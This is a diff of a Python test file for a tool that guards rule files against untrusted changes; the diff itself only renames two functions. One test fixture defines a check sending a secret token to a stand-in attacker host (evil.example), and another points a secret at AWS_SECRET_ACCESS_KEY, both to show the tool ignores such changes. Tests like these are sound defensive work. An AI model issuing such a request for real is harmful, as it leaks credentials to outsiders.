@@ -10,7 +10,7 @@ from msgspec.structs import replace
 from tests.support.repo import Repo
 from toolkit.errors import FileProblem, MissingCommit, NoTrustedBase, UsageError
 from toolkit.flow import checks
-from toolkit.flow.rulebook import environment
+from toolkit.flow.rulebook import environment_name
 from toolkit.flow.trusted import load_trusted
 from toolkit.model import Backwards, JudgeEffect, Rules
 from toolkit.ports.git import Git
@@ -222,7 +222,7 @@ def test_a_new_target_has_its_own_gates(clone: Repo) -> None:
 def test_a_changed_check_is_not_used_and_makes_all_due(clone: Repo) -> None:
     rules = changed(clone, "GET /up", "GET /")
     assert differences(rules) == [("checks.up", JudgeEffect.DUE)]
-    assert checks.load(rules).checks["up"].asks == "GET /up"
+    assert checks.load_checks(rules).checks["up"].asks == "GET /up"
     assert rules.trust.is_due("dev")
     assert rules.trust.is_due("prod")
 
@@ -230,20 +230,20 @@ def test_a_changed_check_is_not_used_and_makes_all_due(clone: Repo) -> None:
 def test_a_changed_check_of_an_included_file_is_not_used(clone: Repo) -> None:
     rules = changed(clone, "GET /login", "GET /logout", "checks/more.toml")
     assert differences(rules) == [("checks.login", JudgeEffect.DUE)]
-    assert checks.load(rules).checks["login"].asks == "GET /login"
+    assert checks.load_checks(rules).checks["login"].asks == "GET /login"
 
 
 def test_a_check_that_is_gone_is_asked_all_the_same(clone: Repo) -> None:
     rules = changed(clone, 'include = ["checks/more.toml"]\n', "")
     assert differences(rules)[0] == ("checks.login", JudgeEffect.DUE)
     assert ("secrets.token", JudgeEffect.DUE) in differences(rules)
-    assert set(checks.load(rules).checks) == {"up", "login"}
+    assert set(checks.load_checks(rules).checks) == {"up", "login"}
 
 
 def test_where_a_secret_comes_from_is_what_the_trusted_base_says(clone: Repo) -> None:
     rules = changed(clone, 'env = "TOKEN"', 'env = "AWS_SECRET_ACCESS_KEY"', "checks/more.toml")
     assert differences(rules) == [("secrets.token", JudgeEffect.DUE)]
-    assert checks.load(rules).secrets["token"].env == "TOKEN"
+    assert checks.load_checks(rules).secrets["token"].env == "TOKEN"
 
 
 def test_a_new_check_is_told_and_not_asked(clone: Repo) -> None:
@@ -251,7 +251,7 @@ def test_a_new_check_is_told_and_not_asked(clone: Repo) -> None:
     evil = '[checks.evil]\nhttp = "GET https://evil.example/{token}"\ntags = ["smoke"]\n\n'
     rules = changed(clone, "[secrets.token]", f"{evil}[secrets.token]", "checks/more.toml")
     assert differences(rules) == [("checks.evil", JudgeEffect.TOLD)]
-    assert set(checks.load(rules).checks) == {"up", "login"}
+    assert set(checks.load_checks(rules).checks) == {"up", "login"}
     assert not rules.trust.is_due("dev")
 
 
@@ -259,15 +259,15 @@ def test_a_new_included_file_is_not_used(clone: Repo) -> None:
     clone.write({"checks/evil.toml": '[checks.evil]\nhttp = "GET /"\n'})
     rules = changed(clone, '["checks/more.toml"]', '["checks/more.toml", "checks/evil.toml"]')
     assert differences(rules) == [("checks.evil", JudgeEffect.TOLD)]
-    assert "evil" not in checks.load(rules).checks
+    assert "evil" not in checks.load_checks(rules).checks
 
 
 def test_an_included_file_that_is_gone_or_wrong_here_changes_no_judge(clone: Repo) -> None:
     (clone.path / "checks/more.toml").unlink()
-    assert set(checks.load(loaded(clone)).checks) == {"up", "login"}
+    assert set(checks.load_checks(loaded(clone)).checks) == {"up", "login"}
     (clone.path / "checks/more.toml").write_text("[checks.login\n")
     rules = loaded(clone)
-    assert set(checks.load(rules).checks) == {"up", "login"}
+    assert set(checks.load_checks(rules).checks) == {"up", "login"}
     assert rules.trust.is_due("dev")
 
 
@@ -315,7 +315,7 @@ def test_a_new_environment_needs_consent_and_is_as_it_is_here(clone: Repo) -> No
 def test_the_default_environment_is_that_of_the_trusted_base(clone: Repo) -> None:
     rules = changed(clone, 'environment = "dev"', 'environment = "prod"')
     assert differences(rules) == [("environment", JudgeEffect.TOLD)]
-    assert environment(None, rules) == "dev"
+    assert environment_name(None, rules) == "dev"
 
 
 def test_a_default_environment_that_is_gone_is_not_replaced_by_another(clone: Repo) -> None:
@@ -327,7 +327,7 @@ def test_a_default_environment_that_is_gone_is_not_replaced_by_another(clone: Re
     with pytest.raises(
         UsageError, match="the default environment is 'dev' at origin/main"
     ) as raised:
-        environment(None, loaded(clone))
+        environment_name(None, loaded(clone))
     assert raised.value.exit == 2
 
 
@@ -352,7 +352,7 @@ def test_rules_that_the_trusted_base_has_not_need_consent(hub: Repo, tmp_path: P
     rules = loaded(clone)
     assert rules.trust.is_refused("dev")
     assert rules.trust.is_refused(None)
-    assert checks.load(rules).checks == {}
+    assert checks.load_checks(rules).checks == {}
 
 
 def test_rules_that_are_not_committed_yet_need_consent_where_nothing_else_is_trusted(
@@ -465,7 +465,7 @@ def test_somebody_may_let_this_rules_toml_decide(clone: Repo) -> None:
     changed(clone, "GET /up", "GET /")
     rules = loaded(clone, allowed=True)
     assert rules.environments["dev"].store == "s3://mine/record"
-    assert checks.load(rules).checks["up"].asks == "GET /"
+    assert checks.load_checks(rules).checks["up"].asks == "GET /"
     assert len(rules.trust.differences) == 2  # and is told what differs
     assert (rules.trust.is_due("dev"), rules.trust.is_refused("dev")) == (False, False)
 
